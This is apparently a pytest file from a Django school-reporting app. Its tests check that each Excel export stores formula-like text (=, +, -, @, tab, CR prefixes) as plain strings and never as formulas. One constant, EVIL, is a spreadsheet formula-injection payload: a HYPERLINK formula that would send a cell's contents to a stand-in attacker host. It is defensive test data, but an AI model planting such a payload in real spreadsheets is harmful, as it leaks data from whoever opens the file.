"""Каждый Excel-файл приложения пишет текст, похожий на формулу (= + - @ табуляция CR), текстом:
в книге нет ни одной ячейки-формулы, а сам текст на месте. По тесту на каждый файл."""

import datetime
import io
from types import SimpleNamespace

import pytest
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from config.excel_cells import append_text_row, inline_string_xml, write_text
from reports.builders.base import no_progress
from reports.builders.curator import build_curator
from reports.builders.documents import build_region_documents
from reports.builders.items import build_roadmap_items
from reports.builders.monitoring import build_national, build_stage
from reports.builders.roadmap import build_roadmap
from schools.models import Municipality, School
from schoolwork.excel import build_template
from tests.reports.conftest import TRICKY

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
PREFIXED = ["=1+1", "+79001234567", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def formulas_and_texts(data: bytes) -> tuple[list[str], set[str]]:
    book = load_workbook(io.BytesIO(data))
    formulas, texts = [], set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append(f"{sheet.title}!{cell.coordinate}: {cell.value}")
                elif isinstance(cell.value, str):
                    texts.add(cell.value)
    return formulas, texts


def build(builder, **kwargs) -> bytes:
    out = io.BytesIO()
    builder(out=out, progress=no_progress, **kwargs)
    return out.getvalue()


def assert_text_not_formula(data: bytes, expected: str) -> None:
    formulas, texts = formulas_and_texts(data)
    assert formulas == []
    assert any(expected in text for text in texts), f"{expected!r} не найден в книге"


@pytest.mark.parametrize("value", [*PREFIXED, EVIL])
def test_cell_writer_keeps_formula_like_text_as_text(value):
    sheet = Workbook().active
    append_text_row(sheet, ["код", value, 5])
    cell = sheet.cell(1, 2)
    assert cell.data_type == "s" and cell.value == value and cell.quotePrefix
    assert sheet.cell(1, 3).value == 5 and sheet.cell(1, 3).data_type == "n"
    write_text(sheet.cell(2, 1), value)
    assert sheet.cell(2, 1).data_type == "s"
    xml = inline_string_xml('<c r="A1" s="0"', value)
    assert 't="inlineStr"' in xml and "<f>" not in xml


def test_risk_template_writes_school_names_as_text(db):
    data = build_template(
        region_name="Регион",
        year=2026,
        factors=[SimpleNamespace(pk=1, number=1, title="-фактор")],
        schools=[("1001", "", "=район", EVIL), ("1002", "", "+район", "@школа")],
        levels={},
    )
    assert_text_not_formula(data, EVIL)
    _, texts = formulas_and_texts(data)
    assert {"=район", "+район", "@школа", "1. -фактор"} <= texts


def test_roadmap_excel_writes_formula_like_text_as_text(official_map):
    data = build(build_roadmap, roadmap_id=official_map.pk, fmt="xlsx")
    assert_text_not_formula(data, TRICKY)


def test_items_excel_writes_formula_like_text_as_text(official_map):
    data = build(build_roadmap_items, region_id=official_map.region_id, year=official_map.year)
    assert_text_not_formula(data, TRICKY)


def test_curator_excel_writes_formula_like_text_as_text(figures_world):
    school = figures_world["s1"]
    School.objects.filter(pk=school.pk).update(short_name=EVIL, full_name=EVIL)
    today = timezone.localdate()
    data = build(
        build_curator,
        school_id=school.pk,
        date_from=today - datetime.timedelta(days=30),
        date_to=today,
        fmt="xlsx",
    )
    assert_text_not_formula(data, EVIL)


def test_region_documents_excel_writes_formula_like_text_as_text(figures_world):
    School.objects.filter(pk=figures_world["s1"].pk).update(short_name=EVIL)
    data = build(build_region_documents, region_id=figures_world["region"].pk, year=timezone.localdate().year)
    assert_text_not_formula(data, EVIL)


def test_stage_excel_writes_formula_like_text_as_text(figures_world):
    from monitoring import services as monitoring_services

    region = figures_world["region"]
    Municipality.objects.filter(pk=figures_world["s1"].municipality_id).update(name=EVIL)
    stage = monitoring_services.stage_save(
        actor=None, region=region, year=timezone.localdate().year, title="+1 этап", date=timezone.localdate()
    )
    snapshot = monitoring_services.snapshot_take(stage=stage, region=region)
    data = build(build_stage, snapshot_id=snapshot.pk, fmt="xlsx")
    assert_text_not_formula(data, EVIL)


def test_national_excel_writes_formula_like_text_as_text(figures_world):
    from monitoring import services as monitoring_services

    region = figures_world["region"]
    region.name = EVIL
    region.save()
    stage = monitoring_services.stage_save(
        actor=None, region=region, year=timezone.localdate().year, title="этап", date=timezone.localdate()
    )
    monitoring_services.snapshot_take(stage=stage, region=region)
    data = build(build_national, year=timezone.localdate().year, fmt="xlsx")
    assert_text_not_formula(data, EVIL)


@given(st.text(min_size=1, max_size=40))
def test_inline_string_escapes_exactly_like_the_full_translation(value):
    """Проверка «нужно ли экранировать» (быстрый путь) не пропускает ни одного символа, который убирает
    или заменяет полная таблица XML_TEXT."""
    from config.excel_cells import MAX_CELL_CHARS, XML_TEXT

    xml = inline_string_xml('<c r="A1"', value)
    assert xml.split(">", 3)[3].rsplit("</t>", 1)[0] == value[:MAX_CELL_CHARS].translate(XML_TEXT)
